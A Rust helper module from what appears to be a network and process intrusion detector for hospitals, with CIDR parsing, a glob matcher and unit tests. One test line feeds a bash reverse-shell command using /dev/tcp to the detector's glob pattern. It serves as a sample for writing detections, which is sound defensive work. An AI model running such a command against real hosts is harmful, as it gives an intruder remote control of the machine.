//! Small helpers shared by detectors and rules.

use std::collections::HashMap;
use std::hash::Hash;
use std::net::IpAddr;

use heir_model::Process;

/// The executable path, or the comm when the process table does not know it.
pub fn exe(p: &Process) -> &str {
    p.info
        .as_ref()
        .and_then(|i| i.exe.as_deref())
        .unwrap_or(&p.comm)
}

pub fn basename(path: &str) -> &str {
    path.rsplit('/').next().unwrap_or(path)
}

/// The parent's executable, if the process table knows it.
pub fn parent_exe(p: &Process) -> Option<&str> {
    p.info
        .as_ref()
        .and_then(|i| i.lineage.first())
        .map(|a| a.exe.as_str())
}

/// `name` equals the basename of the process's exe or its comm.
pub fn process_is(p: &Process, names: &[String]) -> bool {
    let b = basename(exe(p));
    names.iter().any(|n| n == b || *n == p.comm || n == exe(p))
}

/// Keeps a per-key map bounded: when it reaches `cap`, entries that `keep` rejects go, and if
/// that is not enough the map starts over. Returns how many entries were dropped, so callers
/// can count what they forgot.
pub fn bound<K: Eq + Hash, V>(
    map: &mut HashMap<K, V>,
    cap: usize,
    keep: impl FnMut(&K, &mut V) -> bool,
) -> usize {
    if map.len() < cap {
        return 0;
    }
    let before = map.len();
    map.retain(keep);
    if map.len() >= cap {
        map.clear();
    }
    before - map.len()
}

/// An IP network in CIDR notation.
#[derive(Debug, Clone, Copy, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
#[serde(try_from = "String", into = "String")]
pub struct Cidr {
    pub addr: IpAddr,
    pub prefix: u8,
}

impl Cidr {
    pub fn contains(&self, ip: IpAddr) -> bool {
        match (self.addr, ip) {
            (IpAddr::V4(n), IpAddr::V4(i)) => {
                let shift = 32 - u32::from(self.prefix.min(32));
                let mask = if shift == 32 { 0 } else { u32::MAX << shift };
                u32::from(n) & mask == u32::from(i) & mask
            }
            (IpAddr::V6(n), IpAddr::V6(i)) => {
                let shift = 128 - u32::from(self.prefix.min(128));
                let mask = if shift == 128 { 0 } else { u128::MAX << shift };
                u128::from(n) & mask == u128::from(i) & mask
            }
            (IpAddr::V4(_), IpAddr::V6(i)) => i
                .to_ipv4_mapped()
                .is_some_and(|v4| self.contains(IpAddr::V4(v4))),
            _ => false,
        }
    }
}

impl std::str::FromStr for Cidr {
    type Err = String;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        let (a, p) = match s.split_once('/') {
            Some((a, p)) => (a, Some(p)),
            None => (s, None),
        };
        let addr: IpAddr = a
            .trim()
            .parse()
            .map_err(|_| format!("`{s}` is not an IP address or CIDR network"))?;
        let max = if addr.is_ipv4() { 32 } else { 128 };
        let prefix = match p {
            Some(p) => p
                .trim()
                .parse::<u8>()
                .ok()
                .filter(|p| *p <= max)
                .ok_or_else(|| format!("`{s}` has an invalid prefix length (0..={max})"))?,
            None => max,
        };
        Ok(Cidr { addr, prefix })
    }
}

impl TryFrom<String> for Cidr {
    type Error = String;
    fn try_from(s: String) -> Result<Self, Self::Error> {
        s.parse()
    }
}

impl From<Cidr> for String {
    fn from(c: Cidr) -> String {
        format!("{}/{}", c.addr, c.prefix)
    }
}

/// The networks a hospital uses internally unless configured otherwise.
pub fn default_internal() -> Vec<Cidr> {
    [
        "10.0.0.0/8",
        "172.16.0.0/12",
        "192.168.0.0/16",
        "127.0.0.0/8",
        "169.254.0.0/16",
        "fc00::/7",
        "fe80::/10",
        "::1/128",
    ]
    .into_iter()
    .map(|s| s.parse().expect("valid built-in network"))
    .collect()
}

pub fn in_any(nets: &[Cidr], ip: IpAddr) -> bool {
    nets.iter().any(|n| n.contains(ip))
}

/// Shell-style glob: `*` any run, `?` one byte. Works on bytes without allocating (it runs on
/// every file open), iteratively, so adversarial patterns cannot blow the stack.
pub fn glob(pattern: &str, text: &str) -> bool {
    let (p, t) = (pattern.as_bytes(), text.as_bytes());
    let (mut pi, mut ti) = (0, 0);
    let (mut star, mut mark) = (None, 0);
    while ti < t.len() {
        if pi < p.len() && (p[pi] == b'?' || p[pi] == t[ti]) {
            pi += 1;
            ti += 1;
        } else if pi < p.len() && p[pi] == b'*' {
            star = Some(pi);
            pi += 1;
            mark = ti;
        } else if let Some(s) = star {
            pi = s + 1;
            mark += 1;
            ti = mark;
        } else {
            return false;
        }
    }
    while pi < p.len() && p[pi] == b'*' {
        pi += 1;
    }
    pi == p.len()
}

/// Whom a per-device model or series belongs to: an address seen on the wire, or this host
/// (syscall events). Cheap to hash, unlike its string form.
#[derive(
    Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, serde::Serialize, serde::Deserialize,
)]
pub enum Device {
    Ip(IpAddr),
    Local,
}

impl Device {
    pub fn ip(self) -> Option<IpAddr> {
        match self {
            Device::Ip(ip) => Some(ip),
            Device::Local => None,
        }
    }
}

impl std::fmt::Display for Device {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Device::Ip(ip) => ip.fmt(f),
            Device::Local => f.write_str("local"),
        }
    }
}

pub const fn secs_to_ns(s: u64) -> u64 {
    s.saturating_mul(1_000_000_000)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cidr_membership() {
        let n: Cidr = "10.1.0.0/16".parse().unwrap();
        assert!(n.contains("10.1.200.3".parse().unwrap()));
        assert!(!n.contains("10.2.0.1".parse().unwrap()));
        let all: Cidr = "0.0.0.0/0".parse().unwrap();
        assert!(all.contains("8.8.8.8".parse().unwrap()));
        let v6: Cidr = "fc00::/7".parse().unwrap();
        assert!(v6.contains("fd12::1".parse().unwrap()));
        assert!("10.0.0.0/33".parse::<Cidr>().is_err());
        assert!("ten".parse::<Cidr>().is_err());
    }

    #[test]
    fn globs() {
        assert!(glob(
            "*/dev/tcp/*",
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"
        ));
        assert!(glob("*.enc", "a/b.enc"));
        assert!(!glob("*.enc", "a/b.encx"));
        assert!(glob("a?c", "abc"));
        assert!(glob("*", ""));
        assert!(!glob("a*b", "acd"));
    }
}
